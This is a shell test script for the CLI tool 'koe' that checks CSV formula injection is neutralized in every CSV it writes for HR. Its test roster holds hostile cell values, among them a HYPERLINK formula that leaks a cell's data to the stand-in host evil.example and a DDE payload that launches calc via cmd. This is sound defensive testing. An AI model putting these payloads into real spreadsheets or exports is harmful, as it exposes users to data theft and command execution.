#!/usr/bin/env bash
# CSV formula injection (OWASP): HR opens koe's CSV files in Excel, so a
# roster value such as =HYPERLINK("https://evil.example/?"&D3,"x") must not
# come out as a formula. Every CSV koe writes (links.csv from 'koe open',
# the lists of 'koe remind', the line 'koe reissue' prints) is parsed here
# as RFC 4180, and every cell of it is checked: none starts with = + - @,
# tab or carriage return, and the hostile values come out as text, prefixed
# with a single quote.
set -u
koe=${KOE_BIN:?}
src=${KOE_SRC:?}
export KOE_KDF_MEMLIMIT=8388608
fail=0
t=$(mktemp -d)
trap 'rm -rf "$t"' EXIT
cd "$t"
say_fail() { echo "FAIL: $*" >&2; fail=1; }
expect_exit() { # expect_exit WANT DESCRIPTION -- command...
	local want=$1 what=$2; shift 3
	"$@" >"$t/out" 2>"$t/err"
	local got=$?
	[ "$got" = "$want" ] || { say_fail "$what: exit $got, want $want"; cat "$t/err" >&2; }
}
echo "correct horse battery staple" >pass.txt

# The hostile roster. Names may legitimately start with '-' (they are
# neutralized, not refused); a quoted name may start with a line break.
printf '%s\r\n' \
	'employee_id,email,name,department,tenure' \
	'"=1+2","=HYPERLINK(""https://evil.example/?""&D3,""x"")","=HYPERLINK(""https://evil.example/?""&D3,""x"")",営業部,1-3年' \
	'@SUM(1+1),@evil.example,@SUM(1+1),営業部,1-3年' \
	'+1-2,+1-2@example.jp,+1-2,営業部,1-3年' \
	'-3+4,-3+4@example.jp,-3+4,営業部,1-3年' \
	'E5,e5@example.jp,"-田中, 一郎",営業部,1-3年' \
	'E6,e6@example.jp,"'$'\r''=cmd|'"'"' /C calc'"'"'!A0",営業部,1-3年' \
	'E7,e7@example.jp,"山田, 太郎",営業部,1-3年' >roster.csv

# check_csv FILE HEADER EXPECTED_ROWS [ID NAME ...]: parses FILE strictly as
# RFC 4180 (a UTF-8 BOM is allowed), checks the header, the row count,
# every cell, and for each ID given that its row carries NAME.
cat >check.mjs <<'EOF'
import { readFileSync } from "node:fs";
const [file, header, want, ...pairs] = process.argv.slice(2);
let s = readFileSync(file, "utf8");
if (s.startsWith("\uFEFF")) s = s.slice(1);
const rows = [];
let row = [], cell = "", i = 0, quoted = false, started = false;
const die = (m) => { console.error(`${file}: ${m}`); process.exit(1); };
while (i < s.length) {
	const c = s[i];
	if (quoted) {
		if (c === '"' && s[i + 1] === '"') { cell += '"'; i += 2; continue; }
		if (c === '"') {
			quoted = false; i++;
			if (i < s.length && s[i] !== "," && s[i] !== "\r" && s[i] !== "\n")
				die(`text after a closing quote at offset ${i}`);
			continue;
		}
		cell += c; i++; continue;
	}
	if (c === '"') {
		if (cell !== "") die(`quote inside an unquoted cell at offset ${i}`);
		quoted = true; started = true; i++; continue;
	}
	if (c === ",") { row.push(cell); cell = ""; started = true; i++; continue; }
	if (c === "\r" || c === "\n") {
		if (c === "\r" && s[i + 1] === "\n") i++;
		row.push(cell); rows.push(row); row = []; cell = ""; started = false; i++; continue;
	}
	cell += c; started = true; i++;
}
if (quoted) die("unterminated quote");
if (started || cell !== "") { row.push(cell); rows.push(row); }
if (rows.length === 0 || rows[0].join(",") !== header)
	die(`header ${JSON.stringify(rows[0])}, want ${header}`);
const ncols = rows[0].length;
if (rows.length - 1 !== Number(want)) die(`${rows.length - 1} rows, want ${want}`);
let bad = 0;
rows.forEach((r, n) => {
	if (r.length !== ncols) die(`row ${n} has ${r.length} cells, want ${ncols}`);
	r.forEach((v, k) => {
		if (/^[=+\-@\t\r]/.test(v)) {
			console.error(`${file}: row ${n} cell ${k} starts a formula: ${JSON.stringify(v)}`);
			bad++;
		}
	});
});
for (let j = 0; j + 1 < pairs.length; j += 2) {
	const id = pairs[j], name = pairs[j + 1];
	const r = rows.find((x) => x[0] === id);
	if (!r) { console.error(`${file}: no row ${JSON.stringify(id)}`); bad++; continue; }
	if (r[2] !== name) {
		console.error(`${file}: row ${id}: name ${JSON.stringify(r[2])}, want ${JSON.stringify(name)}`);
		bad++;
	}
}
process.exit(bad ? 1 : 0);
EOF
check_csv() { node check.mjs "$@" || say_fail "cells of $1"; }
# The rows as they must come out: ID NAME, both neutralized.
expected=(
	"'=1+2" "'=HYPERLINK(\"https://evil.example/?\"&D3,\"x\")"
	"'@SUM(1+1)" "'@SUM(1+1)"
	"'+1-2" "'+1-2"
	"'-3+4" "'-3+4"
	"E5" "'-田中, 一郎"
	"E6" "'"$'\r'"=cmd|' /C calc'!A0"
	"E7" "山田, 太郎"
)

expect_exit 0 "open" -- "$koe" open "$src/surveys/alumni-readiness.txt" --roster roster.csv \
	--base-url http://127.0.0.1:8080 --passphrase-file pass.txt
check_csv links.csv employee_id,email,name,link 7 "${expected[@]}"
grep -q "'=HYPERLINK(\"\"https://evil.example" links.csv || say_fail "the formula is quoted as RFC 4180 says"
grep -q "'@evil.example" links.csv || say_fail "an address is neutralized"

expect_exit 0 "remind --out" -- "$koe" remind --out reminder.csv
check_csv reminder.csv employee_id,email,name 7 "${expected[@]}"
expect_exit 0 "remind (stdout)" -- "$koe" remind
cmp -s "$t/out" reminder.csv || say_fail "remind writes the same list to stdout and --out"
expect_exit 0 "remind --links --out" -- "$koe" remind --links links.csv --out reminder-links.csv
check_csv reminder-links.csv employee_id,email,name,link 7 "${expected[@]}"

# reissue looks the employee up by the id as the roster has it.
expect_exit 0 "reissue" -- "$koe" reissue -- "=1+2"
cp "$t/out" reissued.csv
check_csv reissued.csv employee_id,email,name,link 1 "${expected[@]:0:2}"
expect_exit 0 "reissue a name starting with -" -- "$koe" reissue -- -3+4
cp "$t/out" reissued2.csv
check_csv reissued2.csv employee_id,email,name,link 1 "${expected[@]:6:2}"

[ $fail -eq 0 ] && echo "cli csv injection: all passed"
exit $fail
